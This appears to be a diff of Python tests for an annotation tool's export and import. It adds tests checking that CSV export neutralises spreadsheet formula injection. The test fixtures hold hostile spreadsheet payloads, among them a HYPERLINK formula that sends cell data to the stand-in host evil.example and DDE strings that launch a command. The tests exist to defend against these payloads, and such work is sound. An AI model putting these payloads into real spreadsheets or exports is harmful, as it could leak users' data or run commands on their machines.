@@ -414,11 +414,18 @@ def test_phoenix_directory_output_and_cli(db: Path, tmp_path: Path) -> None:
         "span_annotations.json", "span_notes.jsonl", "trace_annotations.json", "trace_notes.jsonl",
     ]  # fmt: skip
     assert sorted(p.name for p in out.iterdir()) == every
-    # again with less to send: files of endpoints with nothing now are removed
+    # again with less to send: files of endpoints with nothing now are emptied, never deleted
+    (out / "mine.txt").write_text("not ours")
     result = cli_run("export", "--db", str(db), "--format", "phoenix", "--out", str(out),
                      "--target", "trace")  # fmt: skip
     assert result.exit_code == 0, result.output
-    assert sorted(p.name for p in out.iterdir()) == ["trace_annotations.json", "trace_notes.jsonl"]
+    assert sorted(p.name for p in out.iterdir()) == sorted([*every, "mine.txt"])
+    assert (out / "mine.txt").read_text() == "not ours"
+    for name in ("document_annotations.json", "session_annotations.json", "span_annotations.json"):
+        assert (out / name).read_bytes() == b'{"data": []}\n'
+    for name in ("session_notes.jsonl", "span_notes.jsonl"):
+        assert (out / name).read_bytes() == b""
+    (out / "mine.txt").unlink()
     trace_body = orjson.loads((out / "trace_annotations.json").read_bytes())
     assert trace_body == {
         "data": [{"trace_id": TRACE_A, "name": "task_success", "annotator_kind": "HUMAN",
@@ -481,3 +488,89 @@ def test_empty_database_exports_empty_bodies(tmp_path: Path) -> None:
     out.write_bytes(orjson.dumps(document))
     result = cli_run("import", str(out), "--db", str(db))
     assert result.exit_code == 0 and ": 0 new, 0 updated, 0 unchanged, 0 orphaned;" in result.stdout
+
+
+# ---------------------------------------------------------------- CSV formula injection
+
+HOSTILE = (
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3",
+    "@SUM(A1:A9)", "\tTAB", "\rCR", "'=already quoted", "''-twice", "'plain quote", "ok",
+)  # fmt: skip
+
+
+def hostile_db(path: Path) -> Path:
+    """Formula-like text in every text column: labels, explanations, identifiers, names,
+    span ids and span names; negative scores."""
+    with Store.open(path) as store:
+        writer = store.span_writer()
+        writer.add(Span("=1+1", "@trace", None, "=cmd|' /C calc'!A0", "LLM"))
+        writer.add(Span("-span", "@trace", "=1+1", "+name", "CHAIN"))
+        writer.close()
+        for index, text in enumerate(HOSTILE):
+            store.set_annotation(
+                Annotation(name=text, span_id="=1+1" if index % 2 else "-span", label=text,
+                           score=-0.5 - index, explanation=text, identifier=text),
+                actor="test",
+            )  # fmt: skip
+    return path
+
+
+def test_csv_cells_are_neutralised_and_numbers_stay_numbers(tmp_path: Path) -> None:
+    db = hostile_db(tmp_path / "hostile.db")
+    data, result = export(db, "csv")
+    table = list(csv.reader(io.StringIO(data.decode(), newline="")))
+    assert result.rows == len(HOSTILE) == len(table) - 1
+    columns = {name: index for index, name in enumerate(table[0])}
+    for row in table[1:]:
+        for name, cell in zip(table[0], row, strict=True):
+            if name in ("score", "document_position", "id"):
+                continue
+            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (name, cell)
+    first = table[1]
+    assert first[columns["label"]] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    assert first[columns["span_id"]] == "'-span" and first[columns["trace_id"]] == "'@trace"
+    assert first[columns["span_name"]] == "'+name"
+    assert first[columns["score"]] == "-0.5"  # a number: a spreadsheet's -0.5, no quote
+    by_label = {row[columns["identifier"]]: row for row in table[1:]}
+    assert by_label["'-2+3"][columns["explanation"]] == "'-2+3"
+    assert by_label["'\tTAB"][columns["name"]] == "'\tTAB"
+    assert by_label["'\rCR"][columns["label"]] == "'\rCR"
+    assert by_label["''=already quoted"][columns["label"]] == "''=already quoted"
+    assert by_label["'''-twice"][columns["label"]] == "'''-twice"
+    assert by_label["'plain quote"][columns["label"]] == "'plain quote"  # not a formula
+    assert by_label["ok"][columns["label"]] == "ok"
+    assert by_label["ok"][columns["span_name"]] == "'=cmd|' /C calc'!A0"
+    # the JSON lines export keeps every value raw
+    lines = [orjson.loads(line) for line in export(db, "jsonl")[0].splitlines()]
+    assert sorted(line["label"] for line in lines) == sorted(HOSTILE)
+
+
+def test_csv_export_of_formula_text_imports_back_exactly(tmp_path: Path) -> None:
+    db = hostile_db(tmp_path / "hostile.db")
+    out = tmp_path / "hostile.csv"
+    assert cli_run("export", "--db", str(db), "--format", "csv", "--out", str(out)).exit_code == 0
+    fresh = tmp_path / "fresh.db"
+    with Store.open(fresh) as store:
+        writer = store.span_writer()
+        writer.add(Span("=1+1", "@trace", None, "=cmd|' /C calc'!A0", "LLM"))
+        writer.add(Span("-span", "@trace", "=1+1", "+name", "CHAIN"))
+        writer.close()
+    result = cli_run("import", str(out), "--db", str(fresh))
+    assert result.exit_code == 0, result.output
+    assert result.stderr == ""
+    assert rows(fresh) == rows(db)
+    assert sorted(r[ROW_COLUMNS.index("label")] for r in rows(fresh)) == sorted(HOSTILE)
+
+
+def test_quotes_in_other_csv_files_are_kept(tmp_path: Path) -> None:
+    """Only our own export's quotes are taken off: an evaluation table's text is as written."""
+    db = hostile_db(tmp_path / "hostile.db")
+    table = tmp_path / "evals.csv"
+    table.write_text("span_id,label,explanation\n-span,'=x,'-y\n")
+    result = cli_run("import", str(table), "--db", str(db), "--name", "judge")
+    assert result.exit_code == 0, result.output
+    with Store.open(db, readonly=True) as store:
+        found = store.connection.execute(
+            "SELECT label, explanation FROM annotations WHERE name = 'judge'"
+        ).fetchall()
+    assert found == [("'=x", "'-y")]
